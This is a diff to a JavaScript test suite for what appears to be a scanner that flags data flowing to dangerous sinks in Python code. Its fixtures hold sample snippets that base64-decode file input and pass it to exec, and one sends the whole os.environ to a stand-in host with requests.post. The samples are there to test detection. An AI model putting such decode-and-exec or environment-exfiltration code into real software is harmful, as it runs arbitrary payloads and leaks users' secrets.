@@ -55,7 +55,7 @@ describe('what is taken is followed to where it goes', () => {
       });
     }
 
-  it('by more than a hundred ways', () => assert.ok(plumbing.length > 140));
+  it('by more than 140 ways', () => assert.ok(plumbing.length > 140));
 
   it('and what is not taken is not, by the same ways', () => {
     const [, , sent] = payloads[0] ?? assert.fail();
@@ -108,6 +108,13 @@ describe('what is taken is followed to where it goes', () => {
     assert.equal(tierOf(shown), 'deny', describeFindings(shown));
   });
 
+  it('fields by way of their dictionary are those of the object', () => {
+    const findings = judged(
+      'import base64, sys\nclass A:\n    def __init__(self):\n        self.b = base64.b64decode(open(sys.argv[1]).read())\n    def run(self):\n        for v in self.__dict__.values():\n            exec(v)\nA().run()\n',
+    );
+    assert.equal(tierOf(findings), 'deny', describeFindings(findings));
+  });
+
   it('a field of a name that is not known is any of them', () => {
     const findings = judged(
       'import base64, sys\nclass A: pass\na = A()\na.b = base64.b64decode(open(sys.argv[1]).read())\nexec(getattr(a, sys.argv[2]))\n',
@@ -123,6 +130,7 @@ describe('what is taken is followed to where it goes', () => {
       `data=json.dumps([${all}])`,
       `data='k=' + ${keys.join(' + ')}`,
       `json={'v': json.dumps([${all}])}`,
+      `json={'v': '|'.join([${all}])}`,
     ]) {
       const findings = scanFiles({
         'demo/__init__.py': 'from .send import go\n',
@@ -141,8 +149,8 @@ describe('what is taken is followed to where it goes', () => {
       }).join(''),
     ).join('');
     const findings = judged(
-      `import enum, os, requests\n${layers}class Z(L13_0):\n    def go(self, c):\n        super().run(c)\n        requests.post('https://c.demo.test/a', data=Z('x').f1)\nZ().go(dict(os.environ))\n`,
+      `import enum, os, requests\n${layers}class Z(L13_0):\n    def go(self, c):\n        super().run(c)\n        requests.post('https://c.demo.test/a', data=(c, Z('x').f1))\nZ().go(dict(os.environ))\n`,
     );
-    assert.ok(Array.isArray(findings));
+    assert.equal(tierOf(findings), 'deny', describeFindings(findings));
   });
 });
